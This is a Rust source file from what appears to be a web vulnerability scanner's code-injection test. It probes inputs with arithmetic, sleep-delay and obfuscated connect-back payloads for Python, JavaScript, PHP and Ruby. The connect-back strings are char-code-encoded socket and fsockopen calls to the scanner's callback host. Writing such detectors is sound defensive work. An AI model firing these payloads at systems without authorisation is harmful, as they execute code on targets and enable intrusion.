//! Code injection: by the result of a computation that the language makes, by delays, by a connection to us.
//!
//! Tried where the value is seen to be evaluated: it may be taken apart and joined again, and not be taken
//! apart alone. What computes sums by itself is no hit: each form calls or joins something.

use vedette_protocol::finding::{Confidence, FindingType, ShownBy};

use super::{Of, Test, canary, nothing_afterwards, poison};
use crate::web::{
    call::{Call, Place, codes},
    input::Payload,
    trial::{Proof, Stop, Subject, Trial, Verdict},
};

pub(crate) const TEST: Test = Test {
    name: "code",
    of: Of::Input,
    budget: 60,
    judge,
    afterwards: nothing_afterwards,
};

fn judge(trial: &Trial<'_>) -> Verdict {
    let plain = trial.view(&canary(trial))?;
    let fails = plain.status() >= 500 && trial.base_view().status() < 500;
    if !fails && trial.view(&poison(trial))? == plain {
        return Ok(None);
    }
    let value = trial.value();
    let is_number = !value.is_empty() && value.bytes().all(|byte| byte.is_ascii_digit());
    if is_number && joins(trial, "+0", "+")? {
        for language in LANGUAGES {
            if let Some(proof) = judged(trial, language.name, "", language.number, language.number_late)? {
                return Ok(Some(proof));
            }
        }
    }
    for quote in QUOTES {
        for joint in ["+", "."] {
            if !joins(trial, &format!("{quote}{joint}{quote}"), quote)? {
                continue;
            }
            for language in LANGUAGES.iter().filter(|language| language.joint == joint) {
                let (text, late) = (
                    in_quotes(language.text, quote),
                    in_quotes(language.text_late, quote),
                );
                if let Some(proof) = judged(trial, language.name, value, &text, &late)? {
                    return Ok(Some(proof));
                }
            }
        }
    }
    Ok(None)
}

/// For results that nobody sees: a connection to us, in either quotes at once, or in place of a number.
pub(super) fn calls(subject: &Subject) -> Vec<Call> {
    let value = &subject.value;
    let is_number = !value.is_empty() && value.bytes().all(|byte| byte.is_ascii_digit());
    let call = |language: &Caller| {
        let (connect, joint, value) = (language.connect, language.joint, value.clone());
        let proof = Proof {
            type_: FindingType::WebCodeInjection,
            confidence: Confidence::Certain,
            shown_by: ShownBy::Callback,
            detail: language.name,
        };
        Call::new(
            proof,
            move |place| {
                let call = connect(place);
                Payload::Value(match is_number {
                    true => call,
                    // In each kind of quotes the other's half is text.
                    false => format!("{value}'{joint}{call}{joint}'\"{joint}{call}{joint}\""),
                })
            },
            // As a text of its own, in the quotes that it stands in or in none.
            move |place| Payload::Value(connect(place).replace(['(', ')'], " ")),
        )
    };
    CALLERS.iter().map(call).collect()
}

/// How a language connects without any quotes.
struct Caller {
    name: &'static str,
    joint: &'static str,
    connect: fn(Place) -> String,
}

const CALLERS: &[Caller] = &[
    Caller {
        name: "Python",
        joint: "+",
        connect: |place| {
            let text = |text: &str| format!("bytes([{}]).decode()", codes(text, "", "", ","));
            let (module, address) = (text("socket"), text(&place.address()));
            format!(
                "__import__({module}).create_connection(({address},{}),2)",
                place.sum()
            )
        },
    },
    Caller {
        name: "JavaScript",
        joint: "+",
        connect: |place| {
            let text = |text: &str| format!("String.fromCharCode({})", codes(text, "", "", ","));
            let (module, address, error) = (text("net"), text(&place.address()), text("error"));
            // A connection that is refused must not end the process.
            format!(
                "(process.mainModule||{{require:process.getBuiltinModule}}).require({module}).connect({},{address}).on({error},Number)",
                place.sum()
            )
        },
    },
    Caller {
        name: "PHP",
        joint: ".",
        connect: |place| {
            let address = codes(&place.host(), "chr(", ")", ".");
            format!("@fsockopen({address},{},$e,$f,2)", place.sum())
        },
    },
];

/// Whether the value with one text behind it is the value still, and with the other is not.
fn joins(trial: &Trial<'_>, whole: &str, broken: &str) -> Result<bool, Stop> {
    let (value, base) = (trial.value(), trial.base_view());
    Ok(trial.view(&format!("{value}{whole}"))? == base && trial.view(&format!("{value}{broken}"))? != base)
}

/// Whether a form behind a value computes, twice, or delays.
fn judged(trial: &Trial<'_>, language: &'static str, value: &str, form: &str, late: &str) -> Verdict {
    let proof = |confidence, shown_by| Proof {
        type_: FindingType::WebCodeInjection,
        confidence,
        shown_by,
        detail: language,
    };
    let computes = |round: usize| {
        let (one, other) = NUMBERS[round];
        let text = form
            .replace('A', &one.to_string())
            .replace('B', &other.to_string());
        let reply = trial.reply(&format!("{value}{text}"))?;
        Ok::<_, Stop>(trial.is_new(reply, &(one * other).to_string()))
    };
    if computes(0)? && computes(1)? {
        return Ok(Some(proof(Confidence::Certain, ShownBy::ComputedOutput)));
    }
    if !late.is_empty()
        && trial.delays(|seconds| format!("{value}{}", late.replace('N', &seconds.to_string())))?
    {
        return Ok(Some(proof(Confidence::Firm, ShownBy::Delay)));
    }
    Ok(None)
}

fn in_quotes(form: &str, quote: &str) -> String {
    form.replace('Q', quote)
}

/// How a language computes and waits. `A` and `B` are numbers, `N` is one of seconds, `Q` is the quote.
struct Language {
    name: &'static str,
    /// What joins texts.
    joint: &'static str,
    /// In place of a number.
    number: &'static str,
    number_late: &'static str,
    /// Behind a text, in its quotes.
    text: &'static str,
    text_late: &'static str,
}

const LANGUAGES: &[Language] = &[
    Language {
        name: "Python",
        joint: "+",
        number: "0+int('A')*B",
        number_late: "0+int(__import__('time').sleep(N)or(0))",
        text: "Q+str(A*B)+Q",
        text_late: "Q+str(__import__(QtimeQ).sleep(N))+Q",
    },
    Language {
        name: "JavaScript",
        joint: "+",
        number: "0+Number('A')*B",
        // Who waits in it keeps all others waiting.
        number_late: "",
        text: "Q+(A*B)+Q",
        text_late: "",
    },
    Language {
        name: "PHP",
        joint: ".",
        number: "0+intval('A')*B",
        number_late: "0+sleep(N)",
        text: "Q.(A*B).Q",
        text_late: "Q.sleep(N).Q",
    },
    Language {
        name: "Ruby",
        joint: "+",
        number: "0+'A'.to_i*B",
        number_late: "0+sleep(N)",
        text: "Q+(A*B).to_s+Q",
        text_late: "Q+sleep(N).to_s+Q",
    },
];
const QUOTES: [&str; 2] = ["'", "\""];
const NUMBERS: [(u64, u64); 2] = [(48_271, 20_393), (39_119, 51_047)];
